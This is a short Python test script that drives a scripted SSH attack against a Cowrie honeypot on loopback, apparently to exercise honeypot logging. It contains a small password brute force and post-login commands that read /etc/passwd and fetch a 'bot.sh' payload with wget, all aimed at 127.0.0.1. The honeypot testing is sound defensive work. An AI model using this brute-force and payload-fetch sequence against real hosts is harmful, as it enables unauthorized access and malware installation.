"""Drives a real SSH session against a honeypot on loopback, as an attacker would (used by the Cowrie test).

usage: ssh-attack.py PORT   — prints one line per attempt: "denied USER" or "ok USER".
"""
import sys
import time

import paramiko

PORT = int(sys.argv[1])


def attempt(user, password, commands=()):
    client = paramiko.SSHClient()
    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    try:
        client.connect("127.0.0.1", port=PORT, username=user, password=password, look_for_keys=False,
                       allow_agent=False, timeout=15, banner_timeout=15, auth_timeout=15)
        if commands:
            # An interactive shell, typed line by line, as a person at the prompt would.
            shell = client.invoke_shell()
            shell.settimeout(15)
            for command in commands:
                shell.send((command + "\n").encode())
                time.sleep(1.0)
                while shell.recv_ready():
                    shell.recv(65536)
            shell.send(b"exit\n")
            time.sleep(0.5)
        print("ok", user, flush=True)
    except paramiko.AuthenticationException:
        print("denied", user, flush=True)
    finally:
        client.close()


# A small brute force, then a successful login that looks around and fetches a payload.
for password in ("root", "123456"):
    attempt("root", password)
attempt("admin", "admin123", ["uname -a", "cat /etc/passwd", "wget http://127.0.0.1:9/bot.sh"])
